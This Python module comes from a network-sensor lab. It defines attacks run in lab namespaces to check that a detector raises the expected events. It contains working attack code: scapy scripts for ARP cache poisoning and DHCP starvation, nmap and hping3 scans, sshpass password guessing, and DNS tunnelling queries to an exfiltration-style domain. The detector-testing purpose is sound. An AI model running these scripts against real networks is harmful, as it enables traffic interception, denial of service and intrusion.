"""Attacks on the namespace lab with real tools, and the sensor event each must raise.

One definition of each attack (the node it runs from, the commands, the event HQ's
sensor must report: detector, source, destination), used by both ``make demo`` (root
mode: each attack run live and its event shown) and ``tests/lab/test_attack_matrix.py``
(each attack asserted), so the demo shows exactly what the test proves.

The attacks run at one site (the HQ, ``jed`` in the example and generated inventories:
the partner's VPN ends there) from its client namespaces, with the real tool (nmap,
hping3, ssh with sshpass, dig; the ARP spoof with scapy for an exact count; a plain TCP
connect for the policy crossings), aimed only at lab addresses, bounded in packets and
time (every command runs under ``timeout``). No two attacks that one detector reports
share a source (an auditor keys incidents by source), so one attack's incident never
stands for another's.

Scapy runs only in the subprocess of the ARP spoof script (this layer never imports it:
``pyproject.toml``'s collector-libraries contract).
"""

from __future__ import annotations

import secrets
import subprocess
import sys
import time
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from netwarden.errors import LabError
from netwarden.inventory.models import Function, Inventory
from netwarden.lab.ns.sensors import EVENTS_FILE, SENSORS_DIR, read_events
from netwarden.lab.ns.servers import NODES_DIR
from netwarden.lab.ns.services.rsyslog import REMOTE_DIR
from netwarden.lab.ns.state import LabState, work_dir

TOOLS = ("nmap", "hping3", "sshpass", "ssh", "dig")
"""The attack tools (Debian packages of the same names but ``ssh``: openssh-client, and
``dig``: bind9-dnsutils; ``scripts/debian-packages.txt``)."""

SSH_GUESSES = 12  # ssh_bruteforce opens at 10 short sessions
DNS_QUERIES = 12
DNS_PAUSE = 1.0  # seconds between the tunnel's queries: about one a second
ARP_REPLIES = 5
UDP_SWEEP_PORT = 40125  # a port nmap sends no payload to

CONNECT = r"""
import socket, sys
src, dst, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
s = socket.socket()
s.settimeout(5)
if src:
    s.bind((src, 0))
try:
    s.connect((dst, port))
    print("connected")
except OSError as exc:
    print("failed:", exc)
finally:
    s.close()
"""
"""One TCP connect from ``src`` (any address when empty) to ``dst``:``port``; exit 0
whether or not it is answered (the crossing is what the sensor judges)."""

ARP_SPOOF = r"""
import sys
from scapy.layers.l2 import ARP, Ether
from scapy.arch import get_if_hwaddr
from scapy.sendrecv import sendp
gateway, victim, victim_mac, count = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])
me = get_if_hwaddr("eth0")
# "the gateway is-at <me>", unasked, to the victim: the classic poisoning reply
sendp(Ether(src=me, dst=victim_mac) / ARP(op=2, hwsrc=me, psrc=gateway, hwdst=victim_mac,
      pdst=victim), iface="eth0", count=count, inter=0.2, verbose=False)
print(me)
"""

DHCP_REQUESTS = 100
DHCP_STARVE = r"""
import os, sys
from scapy.arch import get_if_hwaddr
from scapy.layers.dhcp import BOOTP, DHCP
from scapy.layers.inet import IP, UDP
from scapy.layers.l2 import Ether
from scapy.sendrecv import sendp
count = int(sys.argv[1])
me = get_if_hwaddr("eth0")
# dhcpstarv's way: its own source address, a made-up client address in each DISCOVER
frames = [Ether(src=me, dst="ff:ff:ff:ff:ff:ff") / IP(src="0.0.0.0", dst="255.255.255.255")
          / UDP(sport=68, dport=67) / BOOTP(chaddr=b"\x02" + os.urandom(5), xid=k)
          / DHCP(options=[("message-type", "discover"), "end"]) for k in range(count)]
sendp(frames, iface="eth0", inter=0.01, verbose=False)
print(me)
"""


TITLES = {
    "port_scan": "a guest scans HQ's file server with nmap (SYN scan)",
    "udp_sweep": "a guest sweeps 100 addresses of the servers zone on one UDP port",
    "arp_sweep": "a guest asks ARP for every address of its own subnet",
    "ping_sweep": "a guest pings 100 addresses of the servers zone (nmap -sn -PE)",
    "hping3_scan": "a staff laptop sends 40 SYNs to 40 ports of the file server (hping3)",
    "stealth_scan": "a staff laptop Xmas-scans 100 ports of the file server (nmap -sX)",
    "ack_scan": "a staff laptop ACK-scans 100 ports of the DNS server (nmap -sA)",
    "fragmented_scan": "a voice phone SYN-scans the DNS server in 8-byte IP fragments (nmap -f)",
    "dhcp_starvation": f"a guest asks for {DHCP_REQUESTS} DHCP leases for made-up clients (dhcpstarv style)",
    "ssh_guessing": f"a guest guesses SSH passwords on HQ's DNS server ({SSH_GUESSES} sessions)",
    "arp_spoof": "a voice phone poisons its neighbour's ARP cache (the gateway is-at me)",
    "dns_tunnel": f"a guest tunnels data out through DNS ({DNS_QUERIES} queries)",
    "zone_crossing": "a guest reaches the file server on SMB (tcp/445): a forbidden crossing",
    "partner_unpublished": "the partner reaches ssh on HQ's web server over its VPN",
}
"""Each attack's one-line title, by name (known before the lab is up: the demo lists them)."""


@dataclass(frozen=True)
class Expect:
    """The event an attack must raise: from ``sensor`` at ``site``, of ``detector``, its
    ``src`` one of ``sources`` and its ``dst`` ``dst`` (None: any)."""

    detector: str
    sources: tuple[str, ...]
    dst: str | None
    site: str
    sensor: str

    def matches(self, event: Mapping[str, Any]) -> bool:
        return bool(
            event.get("detector") == self.detector
            and event.get("src") in self.sources
            and (self.dst is None or event.get("dst") == self.dst)
            and event.get("site") == self.site
            and event.get("sensor") == self.sensor
        )


@dataclass(frozen=True)
class Command:
    """One command run in ``node``'s network namespace, killed after ``timeout`` seconds."""

    node: str
    argv: tuple[str, ...]
    timeout: float = 60.0


@dataclass(frozen=True)
class Attack:
    """One attack: ``setup`` (not part of it: e.g. the victim learning the real binding),
    then ``commands`` ``pause`` seconds apart; ``expect`` is what the sensor must say."""

    name: str
    what: str
    commands: tuple[Command, ...]
    expect: Expect
    setup: tuple[Command, ...] = ()
    pause: float = 0.0
    shown: str = ""
    """The command as the demo prints it (empty: the first command, and how many)."""

    @property
    def node(self) -> str:
        return self.commands[0].node

    @property
    def title(self) -> str:
        return TITLES[self.name]


@dataclass(frozen=True)
class AttackRun:
    """What running an attack did: each command's result, in order."""

    attack: Attack
    runs: tuple[subprocess.CompletedProcess[str], ...] = field(default=())

    @property
    def output(self) -> str:
        return "".join(r.stdout + r.stderr for r in self.runs)


def node_netns(state: LabState, node: str) -> str:
    entry = state.header.nodes.get(node)
    if entry is None:
        raise LabError(f"the lab has no node {node!r}")
    return entry.netns


def node_address(state: LabState, node: str) -> str:
    """A node's first address (without its prefix length)."""
    entry = state.header.nodes.get(node)
    if entry is None or not entry.addresses:
        raise LabError(f"the lab has no node {node!r} with an address")
    return entry.addresses[0].split("/")[0]


def in_netns(netns: str, argv: list[str], timeout: float) -> subprocess.CompletedProcess[str]:
    """``argv`` in ``netns`` under ``timeout`` (the tool's own bounds first), output captured."""
    return subprocess.run(
        ["ip", "netns", "exec", netns, "timeout", str(int(timeout)), *argv],
        capture_output=True,
        text=True,
        timeout=timeout + 10,
        check=False,
    )


def node_mac(state: LabState, node: str) -> str:
    """The MAC address of ``node``'s ``eth0`` (a client's one link)."""
    done = in_netns(node_netns(state, node), ["cat", "/sys/class/net/eth0/address"], 10)
    if done.returncode != 0:
        raise LabError(f"{node}: cannot read eth0's MAC address: {done.stderr.strip()}")
    return done.stdout.strip()


def sensor_of(inventory: Inventory, site: str) -> str:
    """The site's sensor (the first, by name)."""
    found = sorted(d.name for d in inventory.devices_at(site) if d.function is Function.SENSOR)
    if not found:
        raise LabError(f"site {site} has no sensor in the inventory")
    return found[0]


def events_file(lab_dir: Path, sensor: str) -> Path:
    """Where ``sensor``'s auditor writes its events in the lab (:mod:`.sensors`)."""
    return work_dir(lab_dir) / SENSORS_DIR / sensor / EVENTS_FILE


def at_log_host(lab_dir: Path, inventory: Inventory, state: LabState, sensor: str) -> Path | None:
    """Where the organisation's log host (the first of ``policy.syslog.servers``) writes
    what ``sensor`` forwards to it, in its root on the host (:mod:`.sensors`); None
    without a log host."""
    hosts = [h for h in inventory.policy.syslog.servers if h in inventory.devices and h != sensor]
    if not hosts:
        return None
    remote = work_dir(lab_dir) / NODES_DIR / hosts[0] / "upper" / REMOTE_DIR.lstrip("/")
    return remote / f"{node_address(state, sensor)}.log"


def plan_attacks(
    inventory: Inventory,
    state: LabState,
    site: str | None = None,
    mac: Callable[[LabState, str], str] = node_mac,
) -> dict[str, Attack]:
    """Every attack of the matrix on ``site`` (default: the HQ) of the running lab in
    ``state``, by name, in the order they are best run. ``mac`` reads a node's MAC (the ARP
    spoof needs the victim's and is known by the attacker's)."""
    site = site or inventory.hq().name
    zones = inventory.sites[site].zones
    sensor = sensor_of(inventory, site)

    def at(node: str) -> str:
        return node_address(state, node)

    def server(kind: str) -> str:
        return str(inventory.devices[f"{site}-{kind}"].service_address())

    def expect(detector: str, *sources: str, dst: str | None = None) -> Expect:
        return Expect(detector, sources, dst, site, sensor)

    def cmd(node: str, *argv: str, timeout: float = 60.0) -> Command:
        return Command(node, argv, timeout)

    guest, guest2 = f"{site}-guests-c1", f"{site}-guests-c2"
    staff, voice, voice2 = f"{site}-staff-c1", f"{site}-voice-c1", f"{site}-voice-c2"
    file1, dns1, web1 = server("file1"), server("dns1"), server("web1")
    first = zones["servers"].subnet.network_address + 100
    sweep = f"{first}-{int(str(first).rsplit('.', 1)[1]) + 99}"  # nmap's a.b.c.100-199
    gateway = str(zones["voice"].gateway)
    partner = next(p for p in inventory.partners.values() if p.site == site)
    partner_src = str(next(partner.networks[0].hosts()))
    py = sys.executable
    attacks = [
        Attack(
            "port_scan",
            "A real SYN scan of 300 ports, from the guests zone to the file server: the frames "
            "cross the site's fabric, whose SPAN port the sensor's auditor reads.",
            (cmd(guest, "nmap", "-n", "-Pn", "-sS", "-p", "1-300", "--max-rate", "1000",
                 "--max-retries", "1", file1),),
            expect("port_scan", at(guest), dst=file1),
        ),
        Attack(
            "udp_sweep",
            "nmap -sU to a port it sends no payload to: silence, which the auditor judges "
            "once each probe's answer time has passed.",
            (cmd(guest, "nmap", "-n", "-Pn", "-sU", "-p", str(UDP_SWEEP_PORT), "--max-rate",
                 "200", "--max-retries", "0", "--max-rtt-timeout", "200ms",
                 "--min-hostgroup", "100", sweep),),
            expect("udp_sweep", at(guest)),
        ),
        Attack(
            "arp_sweep",
            "nmap -sn -PR: who-has for the whole subnet in seconds.",
            (cmd(guest, "nmap", "-n", "-sn", "-PR", "--max-rate", "1000",
                 str(zones["guests"].subnet)),),
            # the sweeper named by its address or, ARP being layer 2, its MAC
            expect("arp_sweep", at(guest), mac(state, guest)),
        ),
        Attack(
            "ping_sweep",
            "nmap -sn -PE: one ICMP echo request per address, most of them unused: the "
            "silence is what the auditor counts, once each request's answer time has passed.",
            (cmd(guest, "nmap", "-n", "-sn", "-PE", "--send-ip", "--max-rate", "200",
                 "--max-retries", "0", "--min-hostgroup", "100", sweep),),
            expect("ping_sweep", at(guest)),
        ),
        Attack(
            "hping3_scan",
            "From staff: the guest's nmap scan is a port_scan incident of its own.",
            # 40 SYNs to ports 1000..1039 (++: one more each), 20 ms apart
            (cmd(staff, "hping3", "-S", "-p", "++1000", "-c", "40", "-i", "u20000", file1),),
            expect("port_scan", at(staff), dst=file1),
        ),
        Attack(
            "stealth_scan",
            "nmap -sX: FIN+PSH+URG segments, no SYN, so no connection attempt for the scan "
            "detectors to count; the flags themselves are what no TCP stack sends.",
            (cmd(staff, "nmap", "-n", "-Pn", "-sX", "-p", "1-100", "--max-rate", "1000",
                 "--max-retries", "0", file1),),
            expect("stealth_scan", at(staff), dst=file1),
        ),
        Attack(
            "ack_scan",
            "nmap -sA: bare ACKs, flags every connection uses; the host answers each one with "
            "a RST (no connection of its own), and those rejections are what the auditor counts.",
            (cmd(staff, "nmap", "-n", "-Pn", "-sA", "-p", "1-100", "--max-rate", "1000",
                 "--max-retries", "0", dns1),),
            expect("ack_scan", at(staff), dst=dns1),
        ),
        Attack(
            "fragmented_scan",
            "nmap -sS -f: each SYN's TCP header split over three 8-byte IP fragments, so no "
            "single packet shows ports and flags together; the auditor reassembles them (the "
            "scan is a port_scan) and reports the tiny fragments themselves.",
            (cmd(voice2, "nmap", "-n", "-Pn", "-sS", "-f", "-p", "1-100", "--max-rate", "1000",
                 "--max-retries", "0", dns1),),
            expect("tiny_fragment", at(voice2), dst=dns1),
        ),
        Attack(
            "dhcp_starvation",
            f"{DHCP_REQUESTS} DHCPDISCOVERs in one second, each for a made-up client address, "
            "sent with scapy from the guest's own hardware address (what dhcpstarv sends to "
            "empty a DHCP server's pool).",
            (cmd(guest2, py, "-c", DHCP_STARVE, str(DHCP_REQUESTS)),),
            expect("dhcp_starvation", mac(state, guest2)),
            shown=f"python3 -c <scapy: {DHCP_REQUESTS} DHCPDISCOVERs, made-up client addresses>",
        ),
        Attack(
            "ssh_guessing",
            "sshpass and ssh against the server's real sshd, one wrong password per session: "
            "the sensor sees only encrypted sessions, short and many, and counts them.",
            tuple(
                cmd(guest, "sshpass", "-p", secrets.token_hex(8),
                    "ssh", "-F", "/dev/null", "-o", "StrictHostKeyChecking=no",
                    "-o", "UserKnownHostsFile=/dev/null", "-o", "PubkeyAuthentication=no",
                    "-o", "PreferredAuthentications=password,keyboard-interactive",
                    "-o", "NumberOfPasswordPrompts=1", "-o", "ConnectTimeout=5",
                    f"netwarden@{dns1}", "true", timeout=20)
                for _ in range(SSH_GUESSES)
            ),
            expect("ssh_bruteforce", at(guest), dst=dns1),
            shown=f"sshpass -p <a wrong password> ssh netwarden@{dns1} true  "
            f"({SSH_GUESSES} times)",
        ),
        Attack(
            "arp_spoof",
            f"{ARP_REPLIES} unasked ARP replies to the other phone claiming the voice gateway "
            f"{gateway}, sent with scapy; the neighbour first learnt the real binding.",
            (cmd(voice, py, "-c", ARP_SPOOF, gateway, at(voice2), mac(state, voice2),
                 str(ARP_REPLIES)),),
            expect("arp_spoof", mac(state, voice)),
            setup=(cmd(voice2, py, "-c", CONNECT, "", gateway, "22", timeout=15),),
            shown=f"python3 -c <scapy: ARP is-at {gateway} to {voice2}> ({ARP_REPLIES} replies)",
        ),
        Attack(
            "dns_tunnel",
            "TXT/MX/CNAME queries of 40 hex characters under one domain, about one a second, "
            "to HQ's resolver (dig).",
            tuple(
                cmd(guest, "dig", "+tries=1", "+time=1", f"@{dns1}",
                    f"{secrets.token_hex(20)}.t.exfil-lab.example", ("TXT", "MX", "CNAME")[n % 3],
                    timeout=10)
                for n in range(DNS_QUERIES)
            ),
            expect("dns_tunnel", at(guest)),
            pause=DNS_PAUSE,
            shown=f"dig @{dns1} <40 hex characters>.t.exfil-lab.example TXT  "
            f"({DNS_QUERIES} queries, TXT/MX/CNAME)",
        ),
        Attack(
            "zone_crossing",
            "guests -> servers on a port the flow policy forbids; the other guest, so that "
            "the incident is this one's (the first guest scanned the servers).",
            (cmd(guest2, py, "-c", CONNECT, "", file1, "445"),),
            expect("policy_violation", at(guest2), dst=file1),
            shown=f"python3 -c <connect to {file1}:445>",
        ),
        Attack(
            "partner_unpublished",
            f"Only https of the DMZ is published to partners: ssh from {partner.name}'s LAN "
            f"({partner_src}) through the tunnel is a crossing the policy forbids.",
            (cmd(partner.name, py, "-c", CONNECT, partner_src, web1, "22"),),
            expect("policy_violation", partner_src, dst=web1),
            shown=f"python3 -c <connect from {partner_src} to {web1}:22>",
        ),
    ]  # fmt: skip
    return {a.name: a for a in attacks}


def run_attack(state: LabState, attack: Attack) -> AttackRun:
    """Run ``attack``'s setup, then its commands (each bounded); setup results are not kept."""
    for command in attack.setup:
        in_netns(node_netns(state, command.node), list(command.argv), command.timeout)
    runs = []
    for n, command in enumerate(attack.commands):
        if n and attack.pause:
            time.sleep(attack.pause)
        runs.append(in_netns(node_netns(state, command.node), list(command.argv), command.timeout))
    return AttackRun(attack, tuple(runs))


def find_event(lab_dir: Path, expect: Expect) -> dict[str, Any] | None:
    """The first event of the expected sensor that ``expect`` matches, now."""
    for event in read_events(events_file(lab_dir, expect.sensor)):
        if expect.matches(event):
            return dict(event)
    return None


def wait_event(lab_dir: Path, expect: Expect, seconds: float) -> dict[str, Any] | None:
    """:func:`find_event`, waiting at most ``seconds`` (the auditor reads in batches)."""
    deadline = time.monotonic() + seconds
    while True:
        found = find_event(lab_dir, expect)
        if found is not None or time.monotonic() >= deadline:
            return found
        time.sleep(0.3)
